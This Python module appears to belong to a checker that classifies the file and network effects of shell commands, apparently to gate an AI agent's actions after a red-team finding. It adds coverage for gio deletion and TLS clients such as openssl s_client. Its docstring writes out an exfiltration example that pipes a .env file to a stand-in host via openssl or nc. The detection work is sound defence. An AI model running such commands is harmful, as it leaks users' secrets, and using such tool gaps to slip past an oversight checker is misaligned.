"""File and network effects of programs the main extractor table (`shell.commands.EXTRACTORS`) did not hold (red
team s21).

- gio(1) names its act in its first word: `gio trash|remove FILE…` deletes them (`copy`, `move` and `save` write
  the file their `out_pos` names in the program knowledge base).
- TLS clients are sockets like `nc`: `openssl s_client -connect HOST:PORT` and `gnutls-cli HOST` send what they read
  on stdin to HOST (`openssl s_client -connect x.example:443 < .env` is `nc x.example 443 < .env`).
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from automode.effects import Effect
from automode.shell.argv import positional
from automode.typing_lite import TYPE_CHECKING

if TYPE_CHECKING:
    from automode.shell.fileenv import Env
    from automode.shell.parse import Command


def _gio(cmd: Command, env: Env) -> Iterator[Effect]:
    pos = positional(cmd)
    if pos and pos[0].value in ("trash", "remove", "rm"):
        for w in pos[1:]:
            yield env.file("delete", w, cmd, recursive=pos[0].value == "trash")


#: openssl(1) subcommands that open a connection, and the option naming the peer
_OPENSSL_CLIENTS = frozenset({"s_client", "s_time"})
_GNUTLS_VALUED = frozenset({"-p", "--port", "--x509cafile", "--x509keyfile", "--x509certfile", "--priority", "--sni-hostname",
                            "-l", "--list", "--verify-hostname", "--alpn", "--logfile", "--save-cert", "--save-ocsp"})


def _tls_client(cmd: Command, env: Env) -> Iterator[Effect]:
    args = cmd.argv[1:]
    host = ""
    if cmd.name == "openssl":
        if not args or args[0].value not in _OPENSSL_CLIENTS:
            return
        for i, w in enumerate(args[1:], 1):
            if w.value in ("-connect", "-host") and i + 1 < len(args):
                host = args[i + 1].value
            elif w.value.startswith("-connect="):
                host = w.value.split("=", 1)[1]
        if not host:
            named = [w.value for w in args[1:] if not w.value.startswith("-")]
            host = named[0] if named else "localhost:443"  # (OpenSSL 3: `s_client HOST:PORT`; none: localhost)
    else:
        pos = positional(cmd, _GNUTLS_VALUED)
        host = pos[0].value if pos else ""
    if host:
        yield Effect("network", host.rsplit(":", 1)[0] if host.count(":") == 1 else host, detail=cmd.text[:200],
                     origin="send", via=cmd.via)  # fmt: skip


EXTRACTORS: dict[str, Callable[[Command, Env], Iterator[Effect]]] = {
    "gio": _gio, "openssl": _tls_client, "gnutls-cli": _tls_client,
}  # fmt: skip
